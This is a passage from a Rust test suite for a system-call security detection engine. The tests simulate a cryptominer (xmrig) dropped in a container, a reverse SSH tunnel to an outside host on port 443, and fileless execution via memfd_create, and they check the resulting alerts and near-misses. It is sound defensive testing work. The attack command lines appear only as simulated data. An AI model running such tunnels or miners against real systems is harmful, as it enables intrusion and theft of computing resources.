             gparent=php-fpm proc_exe_ino_ctime={ctime} proc_exe_ino_mtime={mtime} \
             proc_exe_ino_ctime_duration_proc_start=3000000 proc_cwd=/var/www/html/ container_start_ts={CT_START} \
             evt_type=execve user=www-data user_uid=33 user_loginuid=-1 process=xmrig proc_exepath=/tmp/xmrig \
             parent=sh command=xmrig --donate-level 1 terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER {}",
            ct_suffix()
        ),
    );
}

#[test]
fn drop_and_execute_on_the_host_is_not_in_container() {
    // Near-miss: an upper-layer executable (an overlay mount) run by a host process.
    let mut h = Harness::stable();
    h.process(Proc::new(
        1,
        0,
        "/usr/lib/systemd/systemd",
        &["/sbin/init", "splash"],
    ));
    h.process(Proc::new(100, 1, "/usr/bin/bash", &["bash"]));
    fork(&mut h, 100, 101, 0);
    let ev = execve(
        &h,
        101,
        "/mnt/merged/xmrig",
        &["/mnt/merged/xmrig"],
        exe::EXE_WRITABLE | exe::EXE_UPPER_LAYER,
    );
    let alerts = h.feed(ev.build());
    expect_no_alert(&alerts, "Drop and execute new binary in container");
}

// 24 ------------------------------------------------------------------------------------------

/// alice opens a reverse ssh tunnel to `203.0.113.10:port` from her laptop-facing host
/// (192.168.1.23); returns the alerts of the connect's enter and exit events.
fn ssh_tunnel(
    h: &mut Harness,
    port: u16,
) -> (
    Vec<syssentry_engine::output::Alert>,
    Vec<syssentry_engine::output::Alert>,
) {
    h.state().local_addrs.push("192.168.1.23".parse().unwrap());
    let p = port.to_string();
    let tid = alice_runs(
        h,
        "/usr/bin/ssh",
        &[
            "ssh",
            "-p",
            &p,
            "-R",
            "2222:localhost:22",
            "tunnel@203.0.113.10",
        ],
    );
    h.feed(mk::socket(tid, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, 3).build());
    let enter = EventBuilder::enter(EventType::CONNECT)
        .tid(tid)
        .int("fd", 3)
        .sockaddr(
            "addr",
            SockAddr::Inet("203.0.113.10".parse().unwrap(), port),
        )
        .build();
    let on_enter = h.feed(enter);
    let on_exit =
        h.feed(mk::connect(tid, 3, ipv4("192.168.1.23", 51514, "203.0.113.10", port), 0).build());
    (on_enter, on_exit)
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let mut h = Harness::stable();
    // Seeding (4 processes) then fork (2), exec, socket, connect enter: the exit is event 6.
    let prefix = {
        let mut p = String::new();
        syssentry_engine::output::write_iso8601(T0 + 6 * 1_000_000, &mut p);
        p
    };
    let (on_enter, on_exit) = ssh_tunnel(&mut h, 443);
    // The enter event has no return value yet: the rule waits for the exit.
    expect_no_alert(&on_enter, "Disallowed SSH Connection Non Standard Port");
    expect_alert(
        &on_exit,
        "Disallowed SSH Connection Non Standard Port",
        Priority::Notice,
        &format!(
            "{prefix}: Notice Disallowed SSH Connection | connection=192.168.1.23:51514->203.0.113.10:443 lport=51514 \
             rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=alice user_uid=1000 user_loginuid=1000 \
             process=ssh proc_exepath=/usr/bin/ssh parent=bash command=ssh -p 443 -R 2222:localhost:22 \
             tunnel@203.0.113.10 terminal={PTS1} {HOST_SUFFIX}"
        ),
    );
}

#[test]
fn ssh_connection_to_standard_port_is_allowed() {
    // Near-miss: the same tunnel to port 22.
    let mut h = Harness::stable();
    let (on_enter, on_exit) = ssh_tunnel(&mut h, 22);
    expect_no_alert(&on_enter, "Disallowed SSH Connection Non Standard Port");
    expect_no_alert(&on_exit, "Disallowed SSH Connection Non Standard Port");
}

// 25 ------------------------------------------------------------------------------------------

/// Start of the host's pid namespace (systemd's start at boot).
const BOOT: u64 = T0 - 86_400_000_000_000;

#[test]
fn fileless_execution_via_memfd_create() {
    let mut h = Harness::stable();
    h.process(Proc::new(
        1,
        0,
        "/usr/lib/systemd/systemd",
        &["/sbin/init", "splash"],
    ));
    h.process(Proc::new(800, 1, "/usr/sbin/sshd", &["sshd: root@pts/0"]));
    h.process(Proc {
        tty: PTS0,
        loginuid: 0,
        ..Proc::new(810, 800, "/usr/bin/bash", &["-bash"])
    });
    for pid in [1, 800, 810] {
        h.state().thread_mut(pid).unwrap().pidns_init_start_ts = BOOT;
    }
    fork(&mut h, 810, 811, 0);
    let ev = execve(
        &h,
        811,
        "/usr/bin/python3.12",
        &["python3", "/tmp/loader.py"],
        exe::EXE_WRITABLE,
    );
    h.feed(ev.str("comm", "python3").build());
    // os.memfd_create("kdevtmpfsi"), the payload written into it, os.execv("/proc/self/fd/3").
    h.feed(mk::memfd_create(811, "kdevtmpfsi", 0, 3).build());
    let ev = execve(
        &h,
        811,
        "memfd:kdevtmpfsi",
        &["kdevtmpfsi"],
        exe::EXE_WRITABLE | exe::EXE_FROM_MEMFD,
    )
    .str("filename", "/proc/self/fd/3")
    .str("comm", "3");
    let prefix = h.next_prefix();
    let alerts = h.feed(ev.build());
    expect_alert(
        &alerts,
        "Fileless execution via memfd_create",
        Priority::Critical,
        &format!(
            "{prefix}: Critical Fileless execution via memfd_create | container_start_ts={BOOT} proc_cwd=/root/ \
             evt_res=SUCCESS proc_sname=bash gparent=sshd evt_type=execve user=root user_uid=0 user_loginuid=0 \
             process=3 proc_exepath=memfd:kdevtmpfsi parent=bash command=3 terminal={PTS0} \
             exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD {HOST_SUFFIX}"
        ),
    );
}

#[test]
fn runc_memfd_self_exec_is_known() {
    // Near-miss: runc re-executing its sealed memfd copy (the CVE-2019-5736 protection).
    let mut h = Harness::stable();
    seed_base(&mut h);
    h.process(Proc::new(
        160,
        150,
        "/usr/bin/runc",
        &[
            "runc",
            "--root",
            "/var/run/docker/runtime-runc/moby",
            "create",
            CID_FULL,
        ],
    ));
    fork(&mut h, 160, 161, 0);
    h.feed(mk::memfd_create(161, "runc_cloned:/proc/self/exe", 0, 7).build());
    let ev = execve(
        &h,
        161,
        "memfd:runc_cloned:/proc/self/exe",
        &["runc", "init"],
        exe::EXE_WRITABLE | exe::EXE_FROM_MEMFD,
    )
    .str("filename", "/proc/self/fd/7")
    .str("comm", "7");
    let alerts = h.feed(ev.build());
    expect_no_alert(&alerts, "Fileless execution via memfd_create");
}
